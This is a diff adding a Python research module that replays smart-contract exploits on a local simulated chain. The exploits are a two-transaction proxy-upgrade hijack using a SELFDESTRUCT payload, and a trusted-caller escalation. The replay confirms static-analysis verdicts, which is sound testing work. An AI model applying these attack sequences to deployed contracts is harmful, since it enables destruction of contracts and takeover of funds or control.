@@ -1,0 +1,163 @@
+"""Multi-contract exploit replay: confirm cross-contract verdicts on-chain.
+
+The single-contract :class:`~repro.kill.killer.EthainterKill` deploys one
+contract and tries to destroy it; cross-contract verdicts need the whole
+*bundle* live at its declared addresses (the proxy must find its
+implementation where the storage seed says it is).  :class:`BundleKill`
+therefore materializes a :class:`~repro.core.linkage.ContractBundle`
+directly into the world state — the bundle *is* the deployed world — and
+replays the two composite attacks the merged fixpoint derives:
+
+* **proxy-upgrade-hijack** — tx1 drives the proxy's delegatecall into the
+  implementation's unprotected initializer, which (running against the
+  proxy's storage) overwrites the dispatch slot with an attacker payload
+  address; tx2 drives the same entry point again, now delegatecalling the
+  payload (``PUSH1 0; SELFDESTRUCT``) — destroying the proxy.  Success
+  criterion: the proxy account is destroyed, the paper's §6.1 check.
+
+* **cross-contract-escalation** — one transaction to the forwarder's
+  public entry routes the attacker's address through the trusted call
+  edge; success is the victim's guarded storage slot now holding the
+  attacker's address.
+
+Both attacks are expected to *fail* on the benign bundle variants — the
+replay doubles as the ground-truth check for the precision corpus.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import List, Optional
+
+from repro.chain import Blockchain
+from repro.core.linkage import ContractBundle
+from repro.minisol.abi import encode_call
+
+# PUSH1 0x00; SELFDESTRUCT — the universal hijack payload: any delegatecall
+# into this runtime destroys the *calling* contract (delegatecall keeps
+# address=caller), paying out to address 0.
+HIJACK_RUNTIME = bytes.fromhex("6000ff")
+
+DEFAULT_ATTACKER = 0xA77AC7E2
+PAYLOAD_ADDRESS = 0xBADC0DE
+
+
+@dataclass
+class BundleKillOutcome:
+    """The replay verdict for one bundle attack."""
+
+    attack: str  # "proxy-upgrade-hijack" | "cross-contract-escalation"
+    success: bool
+    target: int  # the contract the attack compromises
+    transactions: int = 0
+    detail: str = ""
+    trace: List[str] = field(default_factory=list)  # one line per tx
+
+
+def deploy_bundle(chain: Blockchain, bundle: ContractBundle) -> None:
+    """Materialize the bundle into the world state at its declared
+    addresses, storage seeds included."""
+    for contract in bundle.contracts:
+        chain.state.set_code(contract.address, contract.runtime())
+        for slot, value in contract.storage:
+            chain.state.set_storage(contract.address, slot, value)
+
+
+class BundleKill:
+    """Replays cross-contract exploits against a deployed bundle."""
+
+    def __init__(
+        self,
+        chain: Optional[Blockchain] = None,
+        attacker: int = DEFAULT_ATTACKER,
+    ) -> None:
+        self.chain = chain or Blockchain()
+        self.attacker = attacker
+        self.chain.fund(self.attacker, 10**18)
+
+    def hijack_proxy(
+        self,
+        bundle: ContractBundle,
+        proxy: int,
+        entry_signature: str,
+    ) -> BundleKillOutcome:
+        """The two-transaction proxy-upgrade hijack.
+
+        ``entry_signature`` names the proxy's public function that forwards
+        its address argument into the implementation (e.g.
+        ``"execute(address)"``).
+        """
+        deploy_bundle(self.chain, bundle)
+        self.chain.state.set_code(PAYLOAD_ADDRESS, HIJACK_RUNTIME)
+        trace: List[str] = []
+
+        # tx1: route the payload address through the delegatecalled
+        # initializer — on the vulnerable pair this rewrites the proxy's
+        # dispatch slot; on the benign pair the guarded initializer reverts.
+        receipt = self.chain.transact(
+            self.attacker, proxy, encode_call(entry_signature, PAYLOAD_ADDRESS)
+        )
+        trace.append(
+            "tx1 %s(payload=0x%x): success=%s"
+            % (entry_signature, PAYLOAD_ADDRESS, receipt.success)
+        )
+
+        # tx2: the same entry point now delegatecalls whatever the dispatch
+        # slot holds.  If tx1 landed, that is the SELFDESTRUCT payload and
+        # the proxy dies; otherwise it is still the implementation.
+        receipt = self.chain.transact(
+            self.attacker, proxy, encode_call(entry_signature, self.attacker)
+        )
+        trace.append(
+            "tx2 %s: success=%s destroyed=%s"
+            % (entry_signature, receipt.success, sorted(receipt.destroyed))
+        )
+
+        destroyed = self.chain.state.is_destroyed(proxy)
+        return BundleKillOutcome(
+            attack="proxy-upgrade-hijack",
+            success=destroyed,
+            target=proxy,
+            transactions=2,
+            detail=(
+                "proxy 0x%x destroyed via hijacked dispatch slot" % proxy
+                if destroyed
+                else "proxy 0x%x survived" % proxy
+            ),
+            trace=trace,
+        )
+
+    def escalate(
+        self,
+        bundle: ContractBundle,
+        forwarder: int,
+        victim: int,
+        entry_signature: str,
+        victim_slot: int,
+    ) -> BundleKillOutcome:
+        """The one-transaction trusted-caller escalation: route the
+        attacker's address through ``forwarder`` into ``victim``'s guarded
+        store, then check ``victim_slot`` for the attacker's address."""
+        deploy_bundle(self.chain, bundle)
+        receipt = self.chain.transact(
+            self.attacker, forwarder, encode_call(entry_signature, self.attacker)
+        )
+        landed = (
+            self.chain.state.get_storage(victim, victim_slot) == self.attacker
+        )
+        return BundleKillOutcome(
+            attack="cross-contract-escalation",
+            success=landed,
+            target=victim,
+            transactions=1,
+            detail=(
+                "victim 0x%x slot %d now holds the attacker"
+                % (victim, victim_slot)
+                if landed
+                else "victim 0x%x slot %d unchanged" % (victim, victim_slot)
+            ),
+            trace=[
+                "tx1 %s(attacker=0x%x): success=%s"
+                % (entry_signature, self.attacker, receipt.success)
+            ],
+        )
